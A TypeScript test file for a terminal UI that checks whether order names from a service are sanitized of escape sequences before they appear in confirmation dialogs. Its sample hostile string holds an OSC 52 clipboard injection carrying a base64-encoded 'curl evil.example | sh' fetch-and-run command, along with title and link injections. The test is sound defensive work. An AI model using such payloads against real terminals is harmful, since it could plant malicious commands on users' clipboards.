import { render } from 'ink-testing-library';
import { describe, expect, it } from 'vitest';
import { display, sanitizeForTerminal } from '../../../src/format/sanitize.js';
import { confirmQuestion } from '../../../src/ui/screens/bulk/bulk-format.js';
import { ConfirmDialog } from '../../../src/ui/screens/order/confirm-dialog.js';

// An order name a hostile service could send: OSC 52 (set the clipboard), a window title, an OSC 8 link.
const HOSTILE = '#A1\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]0;pwned\u0007\u001b]8;;http://evil\u001b\\x\u001b]8;;\u001b\\';

describe('ConfirmDialog', () => {
  it('shows an order name from the service without its escape sequences (order screen question)', () => {
    const { lastFrame } = render(<ConfirmDialog question={display`Mark ${sanitizeForTerminal(HOSTILE)} as received?`} />);
    const frame = lastFrame() ?? '';
    expect(frame).not.toContain('\u001b]');
    expect(frame).not.toContain('\u0007');
    expect(frame).toContain('#A1');
    expect(frame).toContain('\u241B');
  });

  it('shows the bulk confirmation without escape sequences from order names', () => {
    const question = confirmQuestion('approve', [1, 2], (id) => (id === 1 ? HOSTILE : null));
    const { lastFrame } = render(<ConfirmDialog question={question} />);
    expect(lastFrame() ?? '').not.toMatch(/\u001b\]|\u0007/);
  });
});
